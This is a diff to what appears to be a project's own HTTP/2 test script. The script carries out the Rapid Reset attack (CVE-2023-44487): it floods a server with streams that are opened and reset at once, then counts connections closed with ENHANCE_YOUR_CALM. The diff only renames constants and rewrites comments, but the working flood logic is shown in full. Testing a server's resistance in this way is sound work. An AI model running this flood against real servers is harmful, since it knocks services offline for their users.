@@ -1,6 +1,6 @@
 /**
- * Opens streams and resets them immediately at the given rate (CVE-2023-44487), reconnecting when cut off. Prints JSON:
- * streams sent, connections, and how many of those ended with ENHANCE_YOUR_CALM.
+ * Opens streams and resets them immediately at the given rate (CVE-2023-44487), and connects again when the server closes the
+ * connection. Prints JSON: the numbers of streams sent, of connections, and of connections that ended with ENHANCE_YOUR_CALM.
  *
  * Usage: node rapid-reset-attack.ts <port> <streams a second> <seconds>
  */
@@ -8,8 +8,8 @@ import { connect, type Socket } from 'node:net';
 import { CLIENT_PREFACE, FRAME_FLAG, FRAME_TYPE, H2_ERROR } from '../../../runtime/protocols/http2/frame-codes.ts';
 
 const [port, rate, seconds] = process.argv.slice(2).map(Number) as [number, number, number];
-const AT_ONCE = 50;
-const BATCH = 100;
+const CONNECTIONS_AT_ONCE = 50;
+const STREAMS_PER_BATCH = 100;
 
 let sent = 0;
 let connections = 0;
@@ -35,18 +35,18 @@ class Attack {
 		open.add(this);
 	}
 
-	/** Sends a batch unless the previous one is still being written. */
+	/** Sends a batch of streams, unless the previous batch is still being written. */
 	send(): void {
 		if (this.#socket.writableLength > 100_000) return;
 		const frames: Buffer[] = [];
-		for (let i = 0; i < BATCH; i++, this.#stream += 2) {
-			// The fields GET, http, / and the authority `a`, in HPACK.
+		for (let i = 0; i < STREAMS_PER_BATCH; i++, this.#stream += 2) {
+			// The method GET, the scheme http, the path / and the authority `a`, in HPACK.
 			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
 			frames.push(frame(FRAME_TYPE.headers, FRAME_FLAG.endHeaders | FRAME_FLAG.endStream, this.#stream, block));
 			frames.push(frame(FRAME_TYPE.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
 		}
 		this.#socket.write(Buffer.concat(frames));
-		sent += BATCH;
+		sent += STREAMS_PER_BATCH;
 	}
 
 	end(): void {
@@ -68,7 +68,7 @@ const timer = setInterval(() => {
 		console.log(JSON.stringify({ sent, connections, calmed }));
 		return;
 	}
-	while (open.size < AT_ONCE) new Attack();
+	while (open.size < CONNECTIONS_AT_ONCE) new Attack();
 	for (let due = elapsed * rate - sent, blocked = 0; due > 0 && blocked < 3; blocked++) {
 		for (const attack of open) {
 			if (due <= 0) break;
